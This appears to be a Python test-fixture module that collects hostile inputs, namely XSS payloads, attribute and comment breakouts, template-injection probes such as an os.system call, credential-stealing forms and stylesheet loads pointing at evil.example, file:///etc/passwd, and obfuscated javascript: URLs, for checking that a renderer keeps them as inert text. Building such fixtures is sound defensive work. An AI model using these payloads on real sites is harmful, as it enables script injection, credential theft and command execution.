"""Hostile strings: what people type, paste and make models say to break out of the place where a text belongs.

None of them may change anything but text. They are grouped by the door they try; :data:`TEXTS` is everything that a
text of a document may hold, :data:`REFUSED` what documents refuse to hold at all.
"""

from __future__ import annotations

MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<h1>another</h1>",
    "</h1></main></section>",
    "<table><tr><td>",
    "<p/><<b>>nested</b",
)
"""Elements of one's own."""

ATTRIBUTES: tuple[str, ...] = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    "` onmouseover=alert(1) `",
    '"/><svg/onload=alert(1)>',
    'x" id="s-hero" name="body',
    "=\"'",
)
"""Ways out of an attribute value."""

ENTITIES: tuple[str, ...] = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot; onmouseover=&quot;alert(1)",
    "&amp;lt;b&amp;gt;",
    "&NewLine;&Tab;&colon;",
    "&#0;&#x110000;&#xd800;&notanentity;&",
    "&lt",
    "AT&T R&D &copy",
)
"""Character references, which must be shown as they are written."""

COMMENTS: tuple[str, ...] = (
    "<!-- comment -->",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "--!><img src=x onerror=alert(1)>",
    "<!doctype html><html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!--<script>",
)
"""Comments and declarations."""

SCRIPTS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "</script><script>alert(1)</script>",
    "</ScRiPt \t><img src=x onerror=alert(1)>",
    '"};alert(1);//',
    "';alert(1);//",
    '\\"-alert(1)//',
    "\u2028alert(1)\u2029",
    '{"@context":"https://evil.example"}',
    "<!--<script>alert(1)//--></script>",
    "${alert(1)}`${alert(1)}`",
)
"""Ways into a script, or out of the one that holds structured data."""

STYLES: tuple[str, ...] = (
    "}</style><script>alert(1)</script>",
    "} * { display: none } a {",
    "red; background: url(https://evil.example/x)",
    "url(javascript:alert(1))",
    "expression(alert(1))",
    "@import 'https://evil.example/x.css';",
    "*/ body { display: none } /*",
    "\\72 ed; } \\3c /style>",
    '\'; content: "</style>"',
)
"""Ways into a style sheet."""

TEMPLATES: tuple[str, ...] = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{phone}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0.__class__} {model} %s %(a)s $a",
    "f'{1+1}' {1+1!r}",
    "__import__('os').system('id')",
    "\\' + str(1) + \\'",
    "\\n\\x41\\u0041",
    "**bold** [x](javascript:alert(1)) `code`",
)
"""Syntax of templates, format strings and Markdown."""

NAMES: tuple[str, ...] = (
    "s-main", "pm-main", "pm-menu", "s-hero", "s-hero-t", "body", "head", "forms", "location", "cookie", "getElementById",
    "__proto__", "constructor", "toString", "hasOwnProperty", "NaN", "null", "undefined", "true",
)  # fmt: skip
"""Names that clobber those of a page or a program."""

UNICODE: tuple[str, ...] = (
    "\u2028line\u2029paragraph",
    "\u00a0\u00ad\u200b\u200d\ufeff",
    "\ufe64script\ufe65\uff1cscript\uff1ealert(1)",
    "\u02bcsingle\u201cdouble\u201d\uff02",
    "A\u030a\u0301\u0327\u0327\u0327\u0327\u0327\u0327\u0327\u0327",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>\u05e2\u05d1\u05e8\u05d9\u05ea",
    "\u0130\u0131\ufb01\u1e9e",
    "\ud7ff\ue000\uf8ff",
    "a\tb\nc",
    "x" * 2000,
)
"""Separators, invisible and combining characters, other directions, very long words."""

TEXTS: tuple[str, ...] = MARKUP + ATTRIBUTES + ENTITIES + COMMENTS + SCRIPTS + STYLES + TEMPLATES + NAMES + UNICODE
"""Everything that a text of a document may hold."""

REFUSED: tuple[str, ...] = (
    "nul\x00byte", "escape\x1b[31m", "backspace\x08", "form\x0cfeed", "carriage\rreturn", "delete\x7f", "c1\x85\x9b",
    "override\u202egnp.exe", "embedding\u202b", "isolate\u2066a\u2069", "noncharacter\ufffe\uffff", "\ufdd0", "\U0001ffff",
    "surrogate\ud800", "low\udc00", "tag\U000e0041\U000e007f",
)  # fmt: skip
"""What documents refuse: controls, bidi overrides and isolates, noncharacters, lone surrogates, the tag block."""

_SCHEME = "javascript:alert(1)"

URLS: tuple[str, ...] = (
    _SCHEME,
    "JAVASCRIPT:alert(1)",
    "jAvAsCrIpT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "\r\njavascript:alert(1)",
    "\x00javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "j\na\tv\ra\ns\tc\rr\ni\tp\rt\n:alert(1)",
    "javascript\t:alert(1)",
    "javascript\n:alert(1)",
    "javascript :alert(1)",
    "javascript:\t//%0aalert(1)",
    "javascript://https://example.com/%0aalert(1)",
    "javascript:https://example.com",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&Tab;javascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\\u0073cript:alert(1)",
    "\\x6aavascript:alert(1)",
    "javascript\uff1aalert(1)",
    "\uff4aavascript:alert(1)",
    "java\u0000script:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u200bscript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript:'<script>'",
    "javascript:",
    "javascript",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "jscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "data:,x",
    "blob:https://example.com/1",
    "filesystem:https://example.com/temporary/x",
    "file:///etc/passwd",
    "ftp://example.com/",
    "gopher://example.com/",
    "ws://example.com/",
    "view-source:https://example.com",
    "about:blank",
    "chrome://settings",
    "intent://example.com#Intent;scheme=https;end",
    "ms-word:ofe|u|https://example.com",
    "feed:javascript:alert(1)",
    "jar:https://example.com!/x",
    "x-javascript:alert(1)",
    "smsto:+1", "skype:a?call", "web+x:y", "urn:a:b",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    "https:\\\\evil.example",
    "https:/\\evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://",
    "https://?x",
    "https://#x",
    "https://user@evil.example",
    "https://user:pass@evil.example",
    "https://bank.example@evil.example/",
    "https://bank.example%40evil.example@evil.example",
    "https://@evil.example",
    "https://exa mple.com",
    "https://example.com/a b",
    "https://example.com/<script>",
    'https://example.com/"onclick="alert(1)',
    "https://example.com/`x`",
    "https://example.com/{x}",
    "https://example.com/|x",
    "https://example.com/^x",
    "https://example.com/\u202egnp",
    "https://example.com/\ud800",
    "https://example.com\u2028/",
    "a:b",
    "path:with/colon",
    "1a:b",
    ":x",
    "+javascript:alert(1)",
)  # fmt: skip
"""Addresses that a link must refuse to lead to, or may only ever take as a harmless file name."""
